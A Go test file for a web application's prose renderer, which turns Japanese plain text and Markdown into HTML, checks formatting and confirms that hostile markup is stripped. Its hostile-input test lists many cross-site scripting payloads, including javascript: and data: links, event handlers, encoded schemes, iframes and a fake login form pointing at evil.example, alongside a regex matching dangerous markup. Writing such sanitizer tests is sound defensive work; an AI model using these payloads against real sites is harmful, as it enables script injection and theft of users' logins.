package web_test

import (
	"go/parser"
	"go/token"
	"io/fs"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"tsunagu/app/apptest"
	"tsunagu/app/web"
)

func TestProse(t *testing.T) {
	for source, want := range map[string]string{
		"段落です。\n次の行。\n\n次の段落。": "<p>段落です。<br>\n次の行。</p>\n<p>次の段落。</p>",
		// As texts were typed before there was Markdown.
		"第1条（目的）\nこの契約は、\n定めます。\n\n第2条（期間）\n3年。": "<h2>第1条（目的）</h2>\n<p>この契約は、<br>\n定めます。</p>\n<h2>第2条（期間）</h2>\n<p>3年。</p>",
		"1. 取得する情報\n氏名など。\n\n2. 目的\n連絡。":         "<h2>1. 取得する情報</h2>\n<p>氏名など。</p>\n<h2>2. 目的</h2>\n<p>連絡。</p>",
		"１．取得する情報\n氏名など。":                        "<h2>１．取得する情報</h2>\n<p>氏名など。</p>",
		"1. 一つ\n2. 二つ":          "<ol>\n<li>一つ</li>\n<li>二つ</li>\n</ol>",
		"    字下げした行\n下線\n-----": "<p>字下げした行<br>\n下線</p>\n<hr>",
		"A<B 株式会社 & C>D":        "<p>A&lt;B 株式会社 &amp; C&gt;D</p>",
		// Markdown.
		"# 見出し\n### 小見出し\n- **強い**\n- ~~消す~~": "<h2>見出し</h2>\n<h4>小見出し</h4>\n<ul>\n<li><strong>強い</strong></li>\n<li><del>消す</del></li>\n</ul>",
		"| 項目 | 額 |\n|---|--:|\n| 手数料 | 0円 |": "<table>\n<thead>\n<tr>\n<th>項目</th>\n<th align=\"right\">額</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>手数料</td>\n<td align=\"right\">0円</td>\n</tr>\n</tbody>\n</table>",
		"[規約](/terms)": `<p><a href="/terms" rel="nofollow noreferrer">規約</a></p>`,
		"[官庁](https://www.example.go.jp/a?b=1&c=2)": `<p><a href="https://www.example.go.jp/a?b=1&amp;c=2" rel="nofollow noreferrer noopener" target="_blank">官庁</a></p>`,
		"<office@n.example.jp>":                     `<p><a href="mailto:office@n.example.jp" rel="nofollow noreferrer">office@n.example.jp</a></p>`,
		// Simple HTML.
		"<h2>題</h2><p>本文<br>改行</p><dl><dt>語</dt><dd>意味</dd></dl>": "<h2>題</h2><p>本文<br>改行</p><dl><dt>語</dt><dd>意味</dd></dl>",
		"<p class=\"danger\" id=\"x\" style=\"color:red\">色</p>":  "<p>色</p>",
	} {
		if got := web.ProseHTML(source); got != want {
			t.Errorf("%q\n got %q\nwant %q", source, got, want)
		}
		if got := web.ProseHTML(source); got != want {
			t.Errorf("%q from the cache: %q", source, got)
		}
	}
}

// Markup that could run, fetch, hide or imitate something is not in the page; the words around it
// are.
func TestProseHostile(t *testing.T) {
	bad := regexp.MustCompile(`(?i)<\s*/?\s*(script|style|svg|math|img|iframe|object|embed|form|input|button|base|link|meta|video|audio|template|details)|\bon[a-z]+\s*=|javascript:|vbscript:|data:|\bstyle\s*=|\bclass\s*=|\bid\s*=|\bsrc\s*=|srcdoc|<!--`)
	for _, source := range []string{
		`前<script>alert(1)</script>後`,
		"前\n\n<script>\nalert(1)\n</script>\n\n後",
		`前<SCRIPT SRC=//evil.example/x.js></SCRIPT>後`,
		`前<scr<script>ipt>alert(1)</scr</script>ipt>後`,
		`前<img src=x onerror=alert(1)>後`,
		`前![絵](https://evil.example/pixel.png)後`,
		`前![絵](javascript:alert(1))後`,
		`前<img src="data:image/svg+xml;base64,PHN2Zz4=">後`,
		`前<svg/onload=alert(1)><circle/></svg>後`,
		`前<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>後`,
		`前<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>後`,
		`前[押す](javascript:alert(1))後`,
		`前[押す](JaVaScRiPt:alert(1))後`,
		`前[押す](&#106;avascript:alert(1))後`,
		`前[押す](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))後`,
		"前[押す](java\tscript:alert(1))後",
		`前[押す](data:text/html;base64,PHNjcmlwdD4=)後`,
		`前[押す](vbscript:msgbox(1))後`,
		`前<a href="javascript&colon;alert(1)">押す</a>後`,
		"前<a href=\"java&#10;script:alert(1)\">押す</a>後",
		`前<a href=" &#14; javascript:alert(1)">押す</a>後`,
		`前<javascript:alert(1)>後`,
		`前<a href="/terms" onclick="alert(1)" style="position:fixed" class="button" id="root" target="_top">押す</a>後`,
		`前<iframe src="https://evil.example/"></iframe>後`,
		`前<iframe srcdoc="<script>alert(1)</script>"></iframe>後`,
		`前<form action="https://evil.example/"><input name="password"><button>ログイン</button></form>後`,
		`前<base href="https://evil.example/"><link rel="stylesheet" href="//evil.example/x.css"><meta http-equiv="refresh" content="0;url=//evil.example">後`,
		`前<style>body{display:none}</style>後`,
		`前<div style="background:url(javascript:alert(1))">枠</div>後`,
		`前<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>表</td></tr></table>後`,
		`前<!--<img src="--><img src=x onerror=alert(1)//">後`,
		`前<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example">後`,
		`前<video src=x onerror=alert(1)><source src=x></video><audio src=x></audio>後`,
		`前<p/onclick=alert(1)>段<p>後`,
		"前<b\x00 onclick=alert(1)>太</b>後",
		`前<template><script>alert(1)</script></template>後`,
		"前\n\n[a]: javascript:alert(1)\n\n[a]後",
		"# 前 <img src=x onerror=alert(1)>\n\n| <script>alert(1)</script> | b |\n|---|---|\n| <svg onload=alert(1)> | 後 |",
	} {
		got := web.ProseHTML(source)
		if m := bad.FindString(got); m != "" && !strings.Contains(m, "alert") {
			// An escaped word is a word: only markup counts.
			if tags := regexp.MustCompile(`<[^>]*>`).FindAllString(got, -1); slices.ContainsFunc(tags, bad.MatchString) {
				t.Errorf("%q becomes %q, which holds %q", source, got, m)
			}
		}
		if !strings.Contains(got, "前") || !strings.Contains(got, "後") {
			t.Errorf("%q lost its words: %q", source, got)
		}
	}
	if got := web.ProseHTML(strings.Repeat("> ", 3000) + "深い\n\n" + strings.Repeat("- ", 3000) + "深い\n\n" +
		strings.Repeat("[", 5000)); !strings.Contains(got, "深い") {
		t.Error("what is deeply nested is lost")
	}
}

// Sanitizing is for HTML: on plain text it eats what stands after a "<". Only this file does it.
func TestPlainTextIsNeverSanitized(t *testing.T) {
	sanitizes := []string{}
	for _, dir := range []string{"app", "store"} {
		err := filepath.WalkDir(apptest.InRepository(dir), func(file string, _ fs.DirEntry, err error) error {
			if err != nil || filepath.Ext(file) != ".go" {
				return err
			}
			f, err := parser.ParseFile(token.NewFileSet(), file, nil, parser.ImportsOnly)
			if err != nil {
				return err
			}
			for _, i := range f.Imports {
				if strings.Contains(i.Path.Value, "bluemonday") {
					sanitizes = append(sanitizes, filepath.Base(file))
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if !slices.Equal(sanitizes, []string{"prose.go"}) {
		t.Errorf("%q sanitize", sanitizes)
	}
	p := apptest.NewPlatform(t)
	const name = `A<B 株式会社 & <b>太字</b>`
	in := apptest.With(apptest.Inquiry(), map[string]any{"organisation": name, "body": name})
	got := p.Visitor().Post("/api/Public/CheckInquiry", in).Want(200).JSON()
	if got["organisation"] != name || got["body"] != name {
		t.Errorf("plain text came back as %v", got)
	}
}
